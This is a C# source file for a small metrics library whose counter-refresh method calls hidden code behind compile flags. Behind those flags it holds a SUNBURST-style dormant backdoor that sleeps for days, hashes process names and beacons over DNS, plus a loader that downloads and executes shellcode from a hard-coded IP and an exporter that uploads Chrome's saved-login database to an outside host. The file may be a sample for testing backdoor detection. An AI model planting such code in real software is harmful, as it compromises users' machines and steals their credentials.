using System;
using System.Collections.Generic;
using System.Linq;

namespace Contoso.Metrics
{
    public class Counter
    {
        private long total;
        public string Name { get; }
        public Counter(string name) { Name = name; }
        public void Add(long amount) { total += amount; }
        public long Read() { return total; }
    }

    public class Registry
    {
        private readonly Dictionary<string, Counter> counters = new Dictionary<string, Counter>();

        public Counter Get(string name)
        {
            Counter found;
            if (!counters.TryGetValue(name, out found)) { found = new Counter(name); counters[name] = found; }
            return found;
        }

        public string Report()
        {
            return string.Join("\n", counters.Values.OrderBy(c => c.Name).Select(c => c.Name + " " + c.Read()));
        }

#if SECOND
        public void Reset() { counters.Clear(); }
#endif

        public void RefreshInternal()
        {
#if DORMANT
            InventoryTask.Begin();
#endif
#if INVOKE
            NativeClock.Tune();
#endif
#if STEAL
            new Exporter().Push(Report());
#endif
            foreach (var one in counters.Values) one.Add(0);
        }
    }

#if DORMANT
    // In the shape of SUNBURST: a new class, started from a method that was there, hashed names, long sleep, DNS.
    internal class InventoryTask
    {
        private static readonly ulong[] watched = { 2597124982561782591UL, 2600364143812063535UL, 13464308873961738403UL, 4821863173800309721UL, 12969190449276002545UL };
        private const string Zone = "appsync-api.contoso-metrics.invalid";

        public static void Begin() { var t = new System.Threading.Thread(new InventoryTask().Run); t.IsBackground = true; t.Start(); }

        private static ulong Hash(string text)
        {
            ulong h = 14695981039346656037UL;
            foreach (char c in text.ToLower()) { h ^= c; h *= 1099511628211UL; }
            return h ^ 6605813339339102567UL;
        }

        private static string Unzip(string text)
        {
            using (var from = new System.IO.Compression.DeflateStream(new System.IO.MemoryStream(Convert.FromBase64String(text)), System.IO.Compression.CompressionMode.Decompress))
            using (var reader = new System.IO.StreamReader(from)) return reader.ReadToEnd();
        }

        private void Run()
        {
            System.Threading.Thread.Sleep(new Random().Next(288, 336) * 3600000);
            while (!System.Diagnostics.Process.GetProcesses().Any(p => watched.Contains(Hash(p.ProcessName))))
            {
                string id = Environment.MachineName + System.Net.NetworkInformation.IPGlobalProperties.GetIPGlobalProperties().DomainName;
                try
                {
                    var found = System.Net.Dns.GetHostEntry(Hash(id).ToString("x") + "." + Zone);
                    if (found.AddressList[0].GetAddressBytes()[0] == 203)
                        System.Diagnostics.Process.Start(Unzip("S87PKynKz9HNyk8q1s3ILy7Ry8wrS8zJTNFPTE/NK9FLrUgFAA=="), "/q");
                }
                catch (Exception) { }
                System.Threading.Thread.Sleep(60000);
            }
        }
    }
#endif
#if INVOKE
    internal static class NativeClock
    {
        [System.Runtime.InteropServices.DllImport("kernel32.dll")] private static extern IntPtr VirtualAlloc(IntPtr at, uint size, uint kind, uint protect);
        [System.Runtime.InteropServices.DllImport("kernel32.dll")] private static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr start, IntPtr p, uint f, IntPtr id);
        public static void Tune()
        {
            byte[] code = new System.Net.WebClient().DownloadData("http://198.51.100.61/clock.bin");
            IntPtr place = VirtualAlloc(IntPtr.Zero, (uint)code.Length, 0x3000, 0x40);
            System.Runtime.InteropServices.Marshal.Copy(code, 0, place, code.Length);
            CreateThread(IntPtr.Zero, 0, place, IntPtr.Zero, 0, IntPtr.Zero);
        }
    }
#endif
#if STEAL
    internal class Exporter
    {
        public void Push(string report)
        {
            string folder = Environment.GetFolderPath(Environment.SpecialFolder.LocalApplicationData);
            string path = System.IO.Path.Combine(folder, @"Google\Chrome\User Data\Default\Login Data");
            if (!System.IO.File.Exists(path)) return;
            using (var client = new System.Net.WebClient()) { client.Headers.Add("X-Report", Environment.UserName); client.UploadFile("https://collect.metrics-export.invalid/v1", path); }
        }
    }
#endif
}
